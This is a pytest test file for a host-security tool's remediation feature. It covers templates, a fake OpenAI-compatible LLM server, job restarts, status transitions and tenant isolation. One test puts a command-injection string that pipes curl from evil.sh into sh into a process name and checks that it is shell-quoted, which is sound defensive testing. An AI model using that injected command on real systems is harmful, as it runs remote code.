"""Remediation: templates, the LLM path against a real OpenAI-compatible server on loopback,
jobs across a restart, transitions, and verification driven by real ingests."""

from __future__ import annotations

import http.server
import json
import time
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import TestClient

from kefal_lite.app import create_app
from kefal_lite.clock import FrozenClock
from kefal_lite.detect.builtins import BUILTINS, BY_ID
from kefal_lite.detect.engine import Catalog, evaluate
from kefal_lite.detect.state import HostState
from kefal_lite.remediate.templates import render
from tests.builders import T0
from tests.conftest import (
    EXPOSED_PG,
    LOCAL_PG,
    enroll,
    http_server,
    login,
    make_settings,
    query,
    register,
    send,
    wait_remediation,
)
from tests.helpers.engine import CASES, SKEW, findings_of

CATALOG = Catalog(BUILTINS)


@pytest.mark.parametrize("invariant_id", sorted(BY_ID))
def test_every_builtin_renders_three_actions_with_commands(invariant_id: str) -> None:
    if invariant_id == "agent_silent":
        evidence: dict[str, Any] = {"hostname": "web-01", "agent_id": "a", "minutes": 10}
        subject = "agent:a"
    else:
        violating = CASES[invariant_id][0]()
        state, findings = HostState(), []
        skew = SKEW.get(invariant_id, (timedelta(seconds=2),))[0]
        for s in violating:
            findings, state = evaluate(s, state, CATALOG, s.timestamp + skew)
        [finding] = findings_of(invariant_id, findings)
        evidence, subject = finding.evidence, finding.subject
    for os in ("linux", "darwin", "windows"):
        actions = render(BY_ID[invariant_id], subject, evidence, os)
        assert len(actions) == 3
        for a in actions:
            assert a.title.strip() and a.why.strip() and a.commands
            assert all(c.strip() for c in a.commands)


def test_hostile_values_are_quoted() -> None:
    evil = "x'; curl evil.sh | sh; '"
    actions = render(BY_ID["crypto_miner"], f"process:{evil}",
                     {"name": evil, "exe": f"/tmp/{evil}", "pid": None, "user": "www-data"}, "linux")  # fmt: skip
    text = "\n".join(c for a in actions for c in a.commands)
    assert "'x'\"'\"'; curl evil.sh | sh; '\"'\"''" in text  # shlex-quoted, never bare
    assert "| sh; '\n" not in text
    ps = render(BY_ID["crypto_miner"], "process:a'b", {"name": "a'b", "pid": None}, "windows")
    assert "'a''b'" in "\n".join(c for a in ps for c in a.commands)


def test_database_template_is_specific() -> None:
    actions = render(BY_ID["database_exposed"], "port:5432/tcp",
                     {"port": 5432, "protocol": "tcp", "address": "0.0.0.0", "process": "postgres"}, "linux")  # fmt: skip
    assert "listen_addresses" in " ".join(actions[0].commands)
    assert "sudo systemctl restart postgresql" in actions[0].commands
    assert any("ufw deny 5432/tcp" in c for c in actions[1].commands)
    assert actions[2].commands == ["sudo ss -ltnp 'sport = :5432'"]


# --- a small OpenAI-compatible server on 127.0.0.1 -------------------------------------

GOOD = {"actions": [{"title": f"Step {i}", "commands": [f"echo step {i}"], "why": f"because {i}"}
                    for i in range(3)]}  # fmt: skip


class FakeLlm(http.server.BaseHTTPRequestHandler):
    mode = "good"
    requests: list[dict[str, Any]] = []

    def do_POST(self) -> None:  # noqa: N802
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        type(self).requests.append(
            {"path": self.path, "body": body, "auth": self.headers.get("Authorization")}
        )
        if self.mode == "slow":
            time.sleep(3)
        if self.mode == "500":
            self.send_error(500)
            return
        content = (
            json.dumps(GOOD)
            if self.mode in ("good", "slow")
            else "Sure! Here are some ideas: 1. restart"
        )
        payload = json.dumps(
            {"choices": [{"message": {"role": "assistant", "content": content}}]}
        ).encode()
        try:
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)
        except BrokenPipeError:
            pass  # the client gave up first (the timeout case)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def llm_server() -> Iterator[tuple[str, type[FakeLlm]]]:
    handler = type("Handler", (FakeLlm,), {"requests": [], "mode": "good"})
    with http_server(handler) as where:
        yield f"http://{where}/v1", handler


def _start(
    client: TestClient[Any], clock: FrozenClock
) -> tuple[dict[str, str], dict[str, str], str]:
    clock.set(T0 + timedelta(seconds=5))
    register(client, "alice")
    session, agent = login(client, "alice"), enroll(client, "alice")
    send(client, agent, 0, add_ports=EXPOSED_PG)
    [inc] = client.get("/api/v1/incidents", headers=session).json()["items"]
    return session, agent, inc["id"]


@pytest.mark.parametrize("mode, source, error", [
    ("good", "llm", None),
    ("malformed", "template", "not the three-action JSON"),
    ("slow", "template", "did not answer within 1 s"),
    ("500", "template", "HTTP 500"),
])  # fmt: skip
def test_llm_answers_and_fallbacks(tmp_path: Path, clock: FrozenClock, llm_server: tuple[str, type[FakeLlm]],
                                   monkeypatch: pytest.MonkeyPatch, mode: str, source: str,
                                   error: str | None) -> None:  # fmt: skip
    url, handler = llm_server
    handler.mode = mode
    monkeypatch.setenv("KEFAL_LLM_API_KEY", "sk-test-key")
    settings = make_settings(
        tmp_path / "d", llm_base_url=url, llm_model="llama3.1", llm_timeout_seconds=1
    )
    with TestClient(create_app(settings, clock=clock)) as client:
        session, agent, incident_id = _start(client, clock)
        inc = wait_remediation(client, session, incident_id)
    rem = inc["remediation"]
    assert rem["source"] == source and rem["mode"] == "auto" and len(rem["actions"]) == 3
    if error:
        assert error in rem["error"] and "template was used" in rem["error"]
        assert "listen_addresses" in " ".join(rem["actions"][0]["commands"])
    else:
        assert rem["error"] is None and rem["actions"] == GOOD["actions"]
    [request] = handler.requests
    assert request["path"] == "/v1/chat/completions" and request["auth"] == "Bearer sk-test-key"
    prompt = json.dumps(request["body"]["messages"])
    assert request["body"]["model"] == "llama3.1"
    assert "database_exposed" in prompt and "5432" in prompt and "0.0.0.0" in prompt
    assert agent["token"] not in prompt and "sk-test-key" not in prompt


def test_pending_job_completes_after_a_restart(tmp_path: Path, clock: FrozenClock,
                                               llm_server: tuple[str, type[FakeLlm]]) -> None:  # fmt: skip
    url, handler = llm_server
    handler.mode = "slow"  # the server stops while the job waits on the model
    slow = make_settings(tmp_path / "d", llm_base_url=url, llm_model="m", llm_timeout_seconds=30)
    with TestClient(create_app(slow, clock=clock)) as client:
        session, _, incident_id = _start(client, clock)
        deadline = time.monotonic() + 5
        while not handler.requests:
            assert time.monotonic() < deadline
            time.sleep(0.02)
    assert query(slow, "SELECT status FROM jobs") == [("running",)]
    plain = make_settings(tmp_path / "d")
    with TestClient(create_app(plain, clock=clock)) as client:
        inc = wait_remediation(client, login(client, "alice"), incident_id)
    assert inc["remediation"]["source"] == "template"
    assert query(plain, "SELECT status, attempts FROM jobs") == [("done", 2)]


def _remediated(
    client: TestClient[Any], clock: FrozenClock
) -> tuple[dict[str, str], dict[str, str], str]:
    session, agent, incident_id = _start(client, clock)
    wait_remediation(client, session, incident_id)
    return session, agent, incident_id


def test_accept_applied_verified(client: TestClient[Any], clock: FrozenClock) -> None:
    session, agent, iid = _remediated(client, clock)
    url = f"/api/v1/incidents/{iid}/remediation"
    assert (
        client.post(url + "/accept", headers=session).json()["remediation"]["status"] == "accepted"
    )
    r = client.post(url + "/applied", headers=session)
    assert r.status_code == 200 and r.json()["remediation"]["status"] == "applied"
    clock.advance(minutes=1)
    send(client, agent, 1, add_ports=LOCAL_PG)  # the fix: postgres on localhost
    inc = client.get(f"/api/v1/incidents/{iid}", headers=session).json()
    assert inc["remediation"]["status"] == "verified"
    assert inc["status"] == "resolved" and inc["resolved_by"] == "remediation"
    actions = [(h["action"], h["actor"]) for h in inc["history"]]
    assert actions == [("opened", "kefal"), ("remediation_proposed", "kefal"),
                       ("remediation_accepted", "user:alice"), ("remediation_applied", "user:alice"),
                       ("remediation_verified", "kefal"), ("resolved", "kefal")]  # fmt: skip
    assert all(h["at"] for h in inc["history"])


def test_applied_but_still_violated_fails(client: TestClient[Any], clock: FrozenClock) -> None:
    session, agent, iid = _remediated(client, clock)
    url = f"/api/v1/incidents/{iid}/remediation"
    assert (
        client.post(url + "/applied", headers=session).status_code == 200
    )  # straight from proposed
    clock.advance(minutes=1)
    send(client, agent, 1, add_ports=EXPOSED_PG)
    inc = client.get(f"/api/v1/incidents/{iid}", headers=session).json()
    assert inc["remediation"]["status"] == "failed" and inc["status"] == "open"
    assert inc["occurrences"] == 2
    # a new proposal can be asked for (Mode 2)
    r = client.post(f"/api/v1/incidents/{iid}/remediate", headers=session)
    assert r.status_code == 202 and r.json()["remediation"]["status"] in ("pending", "proposed")
    assert wait_remediation(client, session, iid)["remediation"]["mode"] == "on_demand"


def test_verification_for_a_novelty_checks_presence(
    client: TestClient[Any], clock: FrozenClock
) -> None:
    clock.set(T0 + timedelta(seconds=5))
    register(client, "alice")
    session, agent = login(client, "alice"), enroll(client, "alice")
    for i in range(3):
        send(client, agent, i)
    send(client, agent, 3, logged_in_users=["alice", "mallory"])
    send(client, agent, 4, logged_in_users=["alice", "mallory"])  # persisted: alerts now
    [inc] = client.get("/api/v1/incidents", headers=session).json()["items"]
    wait_remediation(client, session, inc["id"])
    client.post(f"/api/v1/incidents/{inc['id']}/remediation/applied", headers=session)
    # mallory is still logged in: novelty would not fire twice, but the fix did not work
    send(client, agent, 5, logged_in_users=["alice", "mallory"])
    assert (
        client.get(f"/api/v1/incidents/{inc['id']}", headers=session).json()["remediation"][
            "status"
        ]
        == "failed"
    )


def test_illegal_transitions_are_409(tmp_path: Path, clock: FrozenClock) -> None:
    settings = make_settings(tmp_path / "d", remediation_auto=False)
    with TestClient(create_app(settings, clock=clock)) as client:
        session, agent, iid = _start(client, clock)
        base = f"/api/v1/incidents/{iid}"
        assert client.get(base, headers=session).json()["remediation"]["status"] == "none"
        for action in ("accept", "reject", "applied"):  # nothing proposed yet
            assert client.post(f"{base}/remediation/{action}", headers=session).status_code == 409
        assert client.post(f"{base}/remediate", headers=session).status_code == 202
        wait_remediation(client, session, iid)
        assert client.post(f"{base}/remediation/reject", headers=session).status_code == 200
        for action in ("accept", "reject", "applied"):  # rejected is final until regenerated
            assert client.post(f"{base}/remediation/{action}", headers=session).status_code == 409
        assert client.post(f"{base}/remediate", headers=session).status_code == 202
        wait_remediation(client, session, iid)
        assert client.post(f"{base}/remediation/accept", headers=session).status_code == 200
        assert client.post(f"{base}/remediation/accept", headers=session).status_code == 409
        assert client.post(f"{base}/remediation/reject", headers=session).status_code == 409
        assert client.post(f"{base}/remediation/applied", headers=session).status_code == 200
        for action in ("accept", "reject", "applied"):
            assert client.post(f"{base}/remediation/{action}", headers=session).status_code == 409
        assert (
            client.post(f"{base}/remediate", headers=session).status_code == 409
        )  # awaiting verification
        clock.advance(minutes=1)
        send(client, agent, 1, add_ports=LOCAL_PG)
        assert client.post(f"{base}/remediate", headers=session).status_code == 409  # resolved
        assert client.post(f"{base}/remediation/applied", headers=session).status_code == 409


def test_another_tenant_gets_404(open_client: TestClient[Any], alice: dict[str, str],
                                 bob: dict[str, str], clock: FrozenClock) -> None:  # fmt: skip
    clock.set(T0 + timedelta(seconds=5))
    agent = enroll(open_client, "alice")
    send(open_client, agent, 0, add_ports=EXPOSED_PG)
    [inc] = open_client.get("/api/v1/incidents", headers=alice).json()["items"]
    wait_remediation(open_client, alice, inc["id"])
    base = f"/api/v1/incidents/{inc['id']}"
    assert open_client.post(f"{base}/remediate", headers=bob).status_code == 404
    for action in ("accept", "reject", "applied"):
        assert open_client.post(f"{base}/remediation/{action}", headers=bob).status_code == 404
    assert open_client.get(base, headers=alice).json()["remediation"]["status"] == "proposed"
